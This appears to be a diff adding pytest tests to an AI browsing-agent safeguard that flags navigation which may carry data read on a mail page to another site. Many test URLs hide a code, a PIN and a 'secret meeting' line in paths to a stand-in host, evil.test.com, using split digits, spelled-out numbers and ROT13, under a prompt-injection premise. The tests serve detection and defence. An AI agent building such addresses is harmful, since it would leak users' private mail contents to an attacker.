@@ -8,7 +8,7 @@ from typing import Any
 import pytest
 from handrail.observation import Page
 from handrail.origins import site_of, sites_named
-from handrail.provenance import TaskSites
+from handrail.provenance import Carried, TaskSites
 from handrail_wire import (
     Action,
     Click,
@@ -124,6 +124,89 @@ def test_after_another_site_was_read(action: Action, target: str, asks: str) -> 
     said = "; ".join(sites(SHOP_PAGE, MAIL_PAGE, said="Order a blue cup, see mail.other.example").carried(
         action, facts(target)).reasons)  # fmt: skip
     assert asks in said if asks else said == ""
+
+
+EVIL, ORG = "https://evil.test.com", "https://example.org"
+CODE = read("https://mail.example.org", "Your code is 482913", "PIN 48-29", "Secret meeting in Rome with Alice")
+
+
+def astray(*more: Page) -> TaskSites:
+    """A task on two sites, one of which has a page that may talk the model into anything."""
+    made = TaskSites(f"{EVIL}/start", ["Compare the prices of blue cups on evil.test.com and example.org"])
+    for page in (read(EVIL, "Cups: blue, green", "Pages 1 2 3", "13 29 48"), CODE, *more):
+        made.see(page)
+    return made
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/x?c=482913",
+        "/x?a=48&b=29&c=13",
+        "/x/48/29/13",
+        "/x/482-913",
+        "/x?pin=48&of=29",
+        "/x#48-29-13",
+        "/x?a=4a8&b=2b9",
+        "/x?p=777",
+        "/four-eight-two-nine-one-three",
+        "/frperg-zrrgvat-nyvpr",
+        "/x?q=nyvpr",
+        "/x#nyvpr",
+        "/x?nyvpr",
+        "/x?a=ny&b=iv&c=pr",
+        "/#/frperg/zrrgvat/nyvpr",
+    ],
+)
+def test_what_a_model_cuts_up_or_rewrites_in_an_address_is_asked_about(path: str) -> None:
+    for action in (Goto(url=EVIL + path), NewTab(url=EVIL + path)):
+        assert "may come from example.org" in "; ".join(astray().carried(action, None).reasons)
+    only = TaskSites(f"{EVIL}/start", ["Buy a cup"])
+    only.see(read(EVIL, "Cups"))
+    assert only.carried(Goto(url=EVIL + path), None) == Carried(), "no other site was read"
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/",
+        "/cups/blue",
+        "/account/orders",
+        "/products/cups?page=7",
+        "/search?q=blue+cups&sort=price&order=asc&page=2",
+        "/cups?colour=green&lang=de",
+        "/cups/13?size=48#blue",
+        "/start?view=list&limit=50",
+        "/v2/cups",
+        "/#/cups/blue",
+        "/#/account/orders",
+    ],
+)
+def test_everyday_addresses_of_a_task_site_are_opened_unasked(path: str) -> None:
+    assert astray().carried(Goto(url=EVIL + path), None) == Carried()
+
+
+def test_an_address_that_the_person_wrote_or_the_site_has_is_opened_unasked() -> None:
+    url = f"{EVIL}/items/48213-large-porcelain-teapot-sale?variant=77120"
+    assert astray().carried(Goto(url=url), None).reasons
+    made = astray()
+    made.hear(f"Begin at {url}")
+    assert made.carried(Goto(url=url), None) == Carried()
+    made.see(read("https://mail.example.org", "Your number: 555 321"))
+    assert made.carried(Goto(url=f"{EVIL}/x/555/321"), None).reasons
+    made.hear("My number is 555 321")
+    assert made.carried(Goto(url=f"{EVIL}/x/555/321"), None) == Carried(), "the mail has it as well"
+    document = Document(frame=0, document_id="E", url=url, origin=EVIL, nodes=[])
+    seen = astray(Page(Observation(tab=1, url=url, documents=[document])))
+    assert seen.carried(Goto(url=url), None) == Carried(), "it was there before"
+
+
+def test_small_numbers_add_up() -> None:
+    made = astray()
+    asked = [bool(made.carried(Goto(url=f"{EVIL}/x?p={pair}"), None).reasons) for pair in (72, 61, 72, 95)]
+    assert asked == [False, False, False, True]
+    assert not made.carried(Goto(url=f"{EVIL}/x?p=3"), None).reasons, "the site shows it itself"
+    assert not made.carried(Goto(url=f"{ORG}/x?p=72"), None).reasons
 
 
 def test_what_was_read_before_a_restart_is_not_forgotten() -> None:
